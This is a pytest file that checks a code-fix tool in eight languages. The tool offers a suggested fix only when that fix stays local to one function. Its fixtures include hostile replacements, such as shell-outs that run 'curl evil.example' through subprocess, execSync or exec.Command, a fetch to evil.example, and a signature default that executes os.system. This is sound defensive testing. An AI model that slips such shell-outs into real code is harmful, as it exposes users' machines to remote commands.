"""Case 5: a quick fix is offered only when it is provably local to its function.

Each language gets the same hostile replacements: code that reaches outside the function
(a new import and a shell-out), one that deletes the whole function, one that dedents out
of the body, one that rewrites the signature, one that is far larger than what it
replaces, one that slips a new definition in; and a benign fix that must still pass.
"""

from __future__ import annotations

from dataclasses import dataclass

import pytest

from siyada.code.fixes import fix_is_local, fix_refusal
from siyada.code.functions import FunctionUnit, extract_functions
from siyada.code.languages import LanguageSpec, language_for
from siyada.code.text import split_lines


@dataclass(frozen=True)
class Sample:
    language: str
    text: str
    function: str
    evidence: str  # one line of the function's body, as it stands in the text
    benign: str  # a fix of that line that stays local
    shell_out: str  # the evidence's line followed by an import and a call, in the body
    escape: str  # the evidence's line, then a top-level statement after the function
    new_definition: str  # the evidence's line plus a nested definition
    signature: str  # a new first line for the function


PYTHON = Sample(
    "python",
    "import os\n\n\ndef average(items):\n    total = sum(items)\n    return total / len(items)\n"
    "\n\ndef other():\n    return 1\n",
    "average",
    "    return total / len(items)",
    "    return total / len(items) if items else 0.0",
    "    import subprocess; subprocess.run(['curl', 'evil.example']); return total / len(items)",
    "    return total / len(items)\nimport subprocess\nsubprocess.run(['curl', 'evil.example'])",
    "    return helper()\n    def helper():\n        return 0",
    "def average(items, hook=__import__('os').system('curl evil.example')):",
)

JAVASCRIPT = Sample(
    "javascript",
    "const fs = require('fs');\n\nfunction average(items) {\n  const total = sum(items);\n"
    "  return total / items.length;\n}\n\nfunction other() {\n  return 1;\n}\n",
    "average",
    "  return total / items.length;",
    "  return items.length ? total / items.length : 0;",
    "  require('child_process').execSync('curl evil.example');\n  return total / items.length;",
    "  return total / items.length;\n  }\n  fetch('https://evil.example');\n  {",
    "  function helper() { return 0; }\n  return helper();",
    "function average(items, hook = require('child_process').execSync('curl evil.example')) {",
)

GO = Sample(
    "go",
    'package stats\n\nimport "fmt"\n\nfunc Average(items []float64) float64 {\n'
    "\ttotal := sum(items)\n\treturn total / float64(len(items))\n}\n\n"
    "func other() int {\n\treturn 1\n}\n",
    "Average",
    "\treturn total / float64(len(items))",
    "\tif len(items) == 0 {\n\t\treturn 0\n\t}\n\treturn total / float64(len(items))",
    '\timport "os/exec"\n\texec.Command("curl", "evil.example").Run()\n'
    "\treturn total / float64(len(items))",
    '\treturn total / float64(len(items))\n\t}\n\tvar _ = exec.Command("curl").Run()\n\tfunc x() {',
    "\thelper := func() float64 { return 0 }\n\treturn helper()",
    "func Average(items []float64) (r float64) { defer evil()",
)

JAVA = Sample(
    "java",
    "import java.util.List;\n\nclass Stats {\n    double average(List<Double> items) {\n"
    "        double total = sum(items);\n        return total / items.size();\n    }\n\n"
    "    int other() {\n        return 1;\n    }\n}\n",
    "Stats.average",
    "        return total / items.size();",
    "        return items.isEmpty() ? 0 : total / items.size();",
    "        return total / items.size();\n        }\n"
    '        static { Runtime.getRuntime().exec("x"); }\n        void pad() {',
    "        return total / items.size();\n        }\n        }\n"
    "        class Evil {\n        void run() {",
    "        return helper();\n        }\n        double helper() {\n        return 0;",
    "    double average(List<Double> items) throws Exception {",
)

RUST = Sample(
    "rust",
    "use std::fs;\n\nfn average(items: &[f64]) -> f64 {\n    let total: f64 = items.iter().sum();\n"
    "    total / items.len() as f64\n}\n\nfn other() -> i32 {\n    1\n}\n",
    "average",
    "    total / items.len() as f64",
    "    if items.is_empty() { 0.0 } else { total / items.len() as f64 }",
    '    use std::process::Command; Command::new("curl").arg("evil.example").status().ok();'
    "\n    total / items.len() as f64",
    "    total / items.len() as f64\n    }\n"
    "    static EVIL: i32 = 1;\n    fn pad() -> f64 {\n    0.0",
    "    fn helper() -> f64 { 0.0 }\n    helper()",
    "fn average(items: &[f64]) -> f64 { std::process::exit(0);",
)

SAMPLES = [PYTHON, JAVASCRIPT, GO, JAVA, RUST]


def _spec(sample: Sample) -> LanguageSpec:
    spec = language_for(sample.language)
    assert spec is not None
    return spec


def _unit(sample: Sample) -> FunctionUnit:
    units = extract_functions(_spec(sample), sample.text)
    (unit,) = [u for u in units if u.name == sample.function]
    return unit


def _line_of(sample: Sample, line: str) -> int:
    return split_lines(sample.text).index(line)


def _refusal(sample: Sample, start: int, end: int, replacement: str) -> str | None:
    return fix_refusal(_spec(sample), sample.text, _unit(sample), start, end, replacement)


def _ids(samples: list[Sample]) -> list[str]:
    return [sample.language for sample in samples]


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_benign_fix_is_still_offered(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    assert _refusal(sample, line, line, sample.benign) is None
    assert fix_is_local(_spec(sample), sample.text, _unit(sample), line, line, sample.benign)


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_that_adds_an_import_and_a_shell_out_is_refused(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    assert _refusal(sample, line, line, sample.shell_out) is not None


def test_case5_import_subprocess_at_module_level_is_refused() -> None:
    # The reported fix for `return total / len(items)`: its later lines land at column 0.
    line = _line_of(PYTHON, PYTHON.evidence)
    refusal = _refusal(PYTHON, line, line, PYTHON.escape)
    assert refusal is not None and "indented less" in refusal
    # Indented into the body instead, the import alone gives it away.
    refusal = _refusal(PYTHON, line, line, PYTHON.shell_out)
    assert refusal is not None and "import" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_that_escapes_to_top_level_is_refused(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    refusal = _refusal(sample, line, line, sample.escape)
    assert refusal is not None
    if sample.language != "python":  # indented like the body: the parse gives it away
        assert "top-level" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_that_adds_a_definition_is_refused(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    refusal = _refusal(sample, line, line, sample.new_definition)
    assert refusal is not None and "definition" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_replacing_the_whole_function_is_refused(sample: Sample) -> None:
    unit = _unit(sample)
    for replacement in ("pass", "    pass", "", "// nothing"):
        assert _refusal(sample, unit.start_line, unit.end_line, replacement) is not None


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_touching_the_signature_line_is_refused(sample: Sample) -> None:
    unit = _unit(sample)
    refusal = _refusal(sample, unit.start_line, unit.start_line, sample.signature)
    assert refusal is not None and "signature" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_dedented_fix_is_refused(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    dedented = sample.evidence.lstrip()
    refusal = _refusal(sample, line, line, f"{sample.evidence}\n{dedented}")
    assert refusal is not None and "indented less" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_oversized_fix_is_refused_and_the_bound_is_exact(sample: Sample) -> None:
    line = _line_of(sample, sample.evidence)
    indent = sample.evidence[: len(sample.evidence) - len(sample.evidence.lstrip())]
    filler = indent + ("x = 1" if sample.language == "python" else "// note")
    at_bound = "\n".join([filler] * 12 + [sample.evidence])  # 3 * 1 + 10 lines
    assert _refusal(sample, line, line, at_bound) is None
    refusal = _refusal(sample, line, line, filler + "\n" + at_bound)
    assert refusal is not None and "lines long" in refusal


@pytest.mark.parametrize("sample", SAMPLES, ids=_ids(SAMPLES))
def test_case5_fix_outside_the_function_is_refused(sample: Sample) -> None:
    unit = _unit(sample)
    line = unit.end_line + 2
    refusal = _refusal(sample, line, line, "x")
    assert refusal is not None and "outside" in refusal


def test_case5_fix_inside_a_one_line_function_is_refused() -> None:
    spec = language_for("python")
    assert spec is not None
    text = "def f(x): return x / 0\n"
    (unit,) = extract_functions(spec, text)
    assert fix_refusal(spec, text, unit, 0, 0, "def f(x): return 0") is not None


def test_case5_decorated_function_body_is_found() -> None:
    spec = language_for("python")
    assert spec is not None
    text = "@app.route('/x', key=lambda r: r)\ndef f(x):\n    return x / 0\n"
    (unit,) = extract_functions(spec, text)
    assert fix_refusal(spec, text, unit, 2, 2, "    return x / 1") is None
    assert fix_refusal(spec, text, unit, 1, 2, "def f(x):\n    return x / 1") is not None


def test_case5_fix_that_ends_the_method_early_is_refused() -> None:
    # Closes `average` and opens an initializer block in the class: no new definition
    # and no new top-level statement, but the method no longer ends where it did.
    line = _line_of(JAVA, JAVA.evidence)
    refusal = _refusal(JAVA, line, line, f"{JAVA.evidence}\n        }}\n        {{")
    assert refusal is not None and "last line" in refusal


def test_case5_fix_with_a_callback_is_not_a_new_definition() -> None:
    line = _line_of(JAVASCRIPT, JAVASCRIPT.evidence)
    fix = "  return items.length ? items.reduce((a, b) => a + b, 0) / items.length : 0;"
    assert _refusal(JAVASCRIPT, line, line, fix) is None


@pytest.mark.parametrize(
    ("language", "text", "line", "benign", "definition"),
    [
        (
            "typescript",
            "export function average(items: number[]): number {\n"
            "  const total = sum(items);\n  return total / items.length;\n}\n",
            2,
            "  return items.length ? total / items.length : 0;",
            "  class Evil {}\n  return total / items.length;",
        ),
        (
            "c",
            "double average(double *items, int n) {\n  double total = sum(items, n);\n"
            "  return total / n;\n}\n",
            2,
            "  return n ? total / n : 0;",
            '  return total / n;\n}\nint evil(void) {\n  return system("curl x");',
        ),
        (
            "cpp",
            "double average(const std::vector<double>& items) {\n"
            "  double total = sum(items);\n  return total / items.size();\n}\n",
            2,
            "  return items.empty() ? 0 : total / items.size();",
            '  auto evil = []() { return std::system("curl x"); };\n  return total / items.size();',
        ),
    ],
)
def test_case5_other_languages_refuse_definitions_and_keep_benign_fixes(
    language: str, text: str, line: int, benign: str, definition: str
) -> None:
    spec = language_for(language)
    assert spec is not None
    (unit,) = extract_functions(spec, text)
    assert fix_refusal(spec, text, unit, line, line, benign) is None
    refusal = fix_refusal(spec, text, unit, line, line, definition)
    assert refusal is not None
